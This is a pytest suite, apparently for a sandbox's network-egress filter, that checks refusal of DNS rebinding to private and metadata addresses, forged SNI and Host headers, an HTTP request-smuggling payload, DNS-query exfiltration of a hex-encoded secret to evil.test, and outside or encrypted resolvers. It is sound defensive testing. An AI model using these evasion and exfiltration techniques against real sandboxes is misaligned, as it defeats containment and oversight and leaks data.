"""Names: rebinding (N06), forged and missing SNI (N07), data in questions (N08), other resolvers (N09)."""

import json

import pytest

from cay_netprobe import Prober, dns, http, name, rules, tcp, udp
from cay_world import NAMESERVER, needs_network

pytestmark = [pytest.mark.core, needs_network]


def curl(net, id, url, *args):
    return net.exec(id, ["curl", "-sS", "--max-time", "10", *args, url])


def ok(done):
    assert done["exitCode"] == 0, done
    return json.loads(done["stdout"])


# ---- N06 ----

PRIVATE = ["127.0.0.1", "10.1.2.3", "192.168.50.10", "169.254.169.254", "100.64.0.1", "0.0.0.0", "224.0.0.1"]
PRIVATE6 = ["::1", "fd00:ec2::254", "fe80::1", "::ffff:10.1.2.3", "::ffff:169.254.169.254", "64:ff9b::a9fe:a9fe"]


@pytest.mark.parametrize("policy", [rules("*.allowed.test", "allowed.test"), True], ids=["list", "public"])
def test_n06_an_answer_that_leads_inside_is_dropped(world, net, net_box, policy):
    probe = Prober(net, net_box(policy))
    for number, address in enumerate(PRIVATE):
        world.dns.add(f"a{number}.allowed.test", "93.184.10.40", address, ttl=0)  # one good address does not help
    for number, address in enumerate(PRIVATE6):
        world.dns.add(f"b{number}.allowed.test", address, ttl=0)
    world.dns.add("good.allowed.test", "93.184.10.40")
    probe.reach(name("good.allowed.test"))
    results = probe.refused(*(name(f"a{n}.allowed.test") for n in range(len(PRIVATE))),
                            *(name(f"b{n}.allowed.test") for n in range(len(PRIVATE6))))
    assert {r.word for r in results} == {"gaierror"}


def test_n06_a_name_that_changes_its_mind_stays_outside(world, net, net_box):
    """Public for the check, then 127.0.0.1, with a TTL of 0."""
    world.dns.sequence("rebind.allowed.test", ["93.184.10.40"], ["10.1.2.3"], ["93.184.10.40"], ["169.254.169.254"])
    probe = Prober(net, net_box(rules("*.allowed.test")))
    assert probe.one(name("rebind.allowed.test")).data == ["93.184.10.40"]
    for _ in range(3):
        got = probe.one(name("rebind.allowed.test"))
        assert not got.reached or got.data == ["93.184.10.40"], got
    probe.refused(http("10.1.2.3", host="rebind.allowed.test"), http("169.254.169.254", host="rebind.allowed.test"))
    assert not world.arrived(to="10.1.2.3") and not world.arrived(to="169.254.169.254")


def test_n06_a_chain_of_names_does_not_hide_it(world, net, net_box):
    world.dns.add("c.allowed.test", "d.evil.test", kind="CNAME").add("d.evil.test", "192.168.50.10", ttl=0)
    probe = Prober(net, net_box(rules("*.allowed.test")))
    probe.refused(name("c.allowed.test"))
    # A chain that ends outside is a CDN's way and fine; its last name is not allowed by it.
    world.dns.add("e.allowed.test", "f.evil.test", kind="CNAME").add("f.evil.test", "93.184.10.50")
    assert probe.one(name("e.allowed.test")).data == ["93.184.10.50"]
    probe.refused(name("f.evil.test"))


def test_n06_a_rule_that_names_the_address_lets_the_answer_pass(world, net, net_box):
    world.dns.add("intern.allowed.test", "10.1.2.3", ttl=0)
    probe = Prober(net, net_box(rules("*.allowed.test", "10.1.2.3")))
    assert probe.one(name("intern.allowed.test")).data == ["10.1.2.3"]
    probe.reach(http("10.1.2.3", host="intern.allowed.test"))


def test_n06_a_name_of_one_sandbox_opens_nothing_for_another(world, net, net_box):
    """Pins are by sandbox: an address is open to the one that was given it by our DNS."""
    policy = rules("allowed.test")
    one, other = Prober(net, net_box(policy)), Prober(net, net_box(policy))
    address = next(a for a in one.one(name("allowed.test")).data if ":" not in a)
    one.reach(http(address, host="allowed.test"))
    other.refused(http(address, host="allowed.test"))
    other.reach(name("allowed.test"))
    other.reach(http(address, host="allowed.test"))


# ---- N07 ----


def test_n07_a_forged_sni_at_another_address_is_refused(world, net, net_box):
    id = net_box(rules("allowed.test"))
    assert ok(curl(net, id, "https://allowed.test/"))["sni"] == "allowed.test"  # the control
    done = curl(net, id, "https://allowed.test/", "--resolve", "allowed.test:443:66.66.66.66")
    assert done["exitCode"] in (7, 35, 56), done
    assert not world.arrived(to="66.66.66.66")
    assert len(world.web.requests) == 1


def test_n07_another_name_at_a_shared_address_is_refused(world, net, net_box):
    id = net_box(rules("shared-a.test"))
    assert ok(curl(net, id, "https://shared-a.test/"))["address"] == "93.184.10.20"
    for scheme, port in (("https", 443), ("http", 80)):
        done = curl(net, id, f"{scheme}://shared-b.test/", "--resolve", f"shared-b.test:{port}:93.184.10.20", "-f")
        assert done["exitCode"] != 0, done
    assert {r.host for r in world.web.requests} == {"shared-a.test"}
    # The control: a policy that has both reaches both.
    both = net_box(rules("shared-a.test", "shared-b.test"))
    assert ok(curl(net, both, "https://shared-b.test/"))["sni"] == "shared-b.test"


@pytest.mark.parametrize("args", [["-noservername"], ["-servername", "other.test"], ["-servername", "evil.allowed.test.evil.test"],
                                  ["-servername", "ALLOWED.TEST.evil.test"]], ids=lambda a: a[-1])
def test_n07_tls_without_the_right_name_is_refused(world, net, net_box, args):
    id = net_box(rules("allowed.test"))
    connect = ["openssl", "s_client", "-connect", "93.184.10.10:443", "-brief", "-verify_return_error", "-CAfile", "/workspace/ca.pem"]
    net.sh(id, "getent ahostsv4 allowed.test")
    good = net.exec(id, [*connect, "-servername", "allowed.test"], timeout=60)
    assert good["exitCode"] == 0, good  # the control
    bad = net.exec(id, [*connect, *args], timeout=60)
    assert bad["exitCode"] != 0 and "CONNECTION ESTABLISHED" not in bad["stderr"], bad


def test_n07_a_host_other_than_the_name_is_refused_in_plain_http(world, net, net_box):
    """Also the second request of a connection, and one in the form that is meant for proxies."""
    probe = Prober(net, net_box(rules("shared-a.test")))
    probe.reach(name("shared-a.test"))
    good = "GET /1 HTTP/1.1\r\nHost: shared-a.test\r\n\r\n"
    probe.reach(tcp("93.184.10.20", 80, send=good))
    for bad in ("GET /2 HTTP/1.1\r\nHost: shared-b.test\r\n\r\n",
                "GET http://shared-b.test/2 HTTP/1.1\r\nHost: shared-a.test\r\n\r\n",
                "GET /2 HTTP/1.1\r\nHost: shared-a.test\r\nHost: shared-b.test\r\n\r\n",
                "GET /2 HTTP/1.1\r\nHost: shared-a.test\r\nTransfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\n"
                "0\r\n\r\nGET /3 HTTP/1.1\r\nHost: shared-b.test\r\n\r\n",
                "GET /2 HTTP/1.1\r\n\r\n"):
        probe.all(tcp("93.184.10.20", 80, send=good + bad), tcp("93.184.10.20", 80, send=bad))
    assert world.web.seen(host="shared-a.test", path="/1"), "the control did not arrive"
    assert not world.web.seen(host="shared-b.test")
    assert not world.web.seen(path="/2") and not world.web.seen(path="/3")


def test_n07_what_is_neither_tls_nor_http_does_not_pass_for_a_name(world, net, net_box):
    """An address is open to a name only where the name is told."""
    probe = Prober(net, net_box(rules("allowed.test")))
    address = next(a for a in probe.one(name("allowed.test")).data if ":" not in a)
    # Each is at least as long as the header of a TLS record, so that no server waits for the rest of it.
    for send in ("SSH-2.0-x\r\n", "\x00\x01\x02\x03\x04\x05\x06", "\x16\x03\x01\x00\x05hello", "CONNECT evil.test:443 HTTP/1.1\r\n\r\n"):
        got = probe.one(tcp(address, 443, send=send))
        assert got.word != "timeout", got
        # A refusal may be told in the language of TLS (alert 49: access denied) or HTTP.
        assert not got.reached or got.data == "\x15\x03\x03\x00\x02\x021" or " 403 " in got.data or " 400 " in got.data, got
    assert not world.web.requests


# ---- N08 ----


def test_n08_a_name_that_is_not_listed_is_not_asked_for(world, net, net_box):
    world.dns.add("*.evil.test", "66.66.66.66")
    world.dns.add("*.evil.test", "instructions", kind="TXT")
    probe = Prober(net, net_box(rules("allowed.test")))
    secret = "73656372657420646174612074686174206c6561766573"
    names = [f"{secret}.evil.test", "evil.test", f"{secret}.allowed.test", f"{secret}.allowed.test.evil.test", "allowed.test.",
             "xallowed.test", "test"]
    questions = [dns(NAMESERVER, n.rstrip("."), kind=k, tcp=t) for n in names if n != "allowed.test."
                 for k in (1, 28, 16, 5, 15, 65, 255, 10) for t in (False, True)]
    results = [r for i in range(0, len(questions), 16) for r in probe.all(*questions[i:i + 16])]
    assert {r.word for r in results} <= {"answered", "closed"}, results
    assert {r.data[0] for r in results if r.reached} <= {3, 5}, "NXDOMAIN or refused, never an answer"
    assert not world.dns.asked(below="evil.test") and not [q for q in world.dns.asked() if secret in q.name]
    probe.reach(name("allowed.test"))
    assert {q.name for q in world.dns.asked()} == {"allowed.test"}


def test_n08_a_listed_suffix_is_asked_for(world, net, net_box):
    """The control: the same question under a policy that has the zone."""
    world.dns.add("*.evil.test", "66.66.66.66")
    probe = Prober(net, net_box(rules("*.evil.test")))
    assert probe.one(dns(NAMESERVER, "data.evil.test")).data == [0, 1]
    assert world.dns.asked("data.evil.test")


def test_n08_no_resolver_without_a_network_and_none_with_an_empty_list(world, net, net_box):
    for policy in (False, {"default": "deny", "rules": []}):
        probe = Prober(net, net_box(policy))
        results = probe.all(name("data.evil.test"), name("allowed.test"), dns(NAMESERVER, "data.evil.test"))
        assert not [r for r in results if r.word == "reached" or (r.word == "answered" and r.data[0] == 0)], results
    assert not world.dns.asked()


# ---- N09 ----


def test_n09_any_resolver_is_ours(world, net, net_box):
    """Questions to a server of somebody's own are answered by our rules and not sent there."""
    world.dns.add("*.evil.test", "66.66.66.66")
    probe = Prober(net, net_box(rules("allowed.test")))
    for server in ("8.8.8.8", "66.66.66.53", "10.255.255.53", "127.0.0.53"):
        for over_tcp in (False, True):
            got = probe.one(dns(server, "data.evil.test", tcp=over_tcp))
            assert not got.reached or got.data[0] in (3, 5), got
    assert probe.one(dns("8.8.8.8", "allowed.test")).data == [0, 1]
    assert not world.dns.asked(below="evil.test")
    assert not world.arrived(to="8.8.8.8") and not world.arrived(to="66.66.66.53")


@pytest.mark.parametrize("policy", [True, rules("allowed.test")], ids=["public", "list"])
def test_n09_dns_over_tls_and_quic_and_to_neighbours_is_refused(world, net, net_box, policy):
    probe = Prober(net, net_box(policy))
    marker = ("tcp", "allowed.test", 4711)
    results = probe.all(tcp("8.8.8.8", 853), udp("8.8.8.8", 853), tcp("93.184.10.10", 853), udp("224.0.0.251", 5353, marker=marker),
                        udp("224.0.0.252", 5355, marker=marker), udp("8.8.8.8", 5353), udp("8.8.8.8", 137))
    assert not [r for r in results if r.reached], results
    assert not [r for r in results[:3] if r.word == "timeout"], results
    assert not [p for p in world.arrived() if p.port in (853, 5353, 5355, 137)]


def test_n09_a_rule_for_that_address_and_port_lets_it_pass(world, net, net_box):
    probe = Prober(net, net_box({"rules": [{"action": "allow", "destination": "8.8.8.8", "protocol": "tcp", "port": 853}]}))
    probe.reach(tcp("8.8.8.8", 853))


def test_n09_dns_over_https_is_a_name_like_others(world, net, net_box):
    id = net_box(rules("allowed.test"))
    assert curl(net, id, "https://doh.test/dns-query?dns=AAAB")["exitCode"] == 6  # no such name
    done = curl(net, id, "https://doh.test/dns-query", "--resolve", "doh.test:443:66.66.66.53")
    assert done["exitCode"] in (7, 35, 56), done
    assert not world.web.requests and not world.arrived(to="66.66.66.53")
    ok(curl(net, net_box(rules("doh.test")), "https://doh.test/dns-query"))


@pytest.mark.needs("program:dig")
def test_n09_dig_sees_what_the_policy_says(world, net, net_box):
    id = net_box(rules("allowed.test"))
    assert net.sh(id, "dig +short allowed.test A").split() == ["93.184.10.10"]
    assert net.sh(id, "dig +tcp +short @8.8.8.8 allowed.test A").split() == ["93.184.10.10"]
    assert "NXDOMAIN" in net.sh(id, "dig evil.test A")
    assert "NXDOMAIN" in net.sh(id, "dig @66.66.66.66 data.evil.test TXT")
    assert not world.dns.asked(below="evil.test")
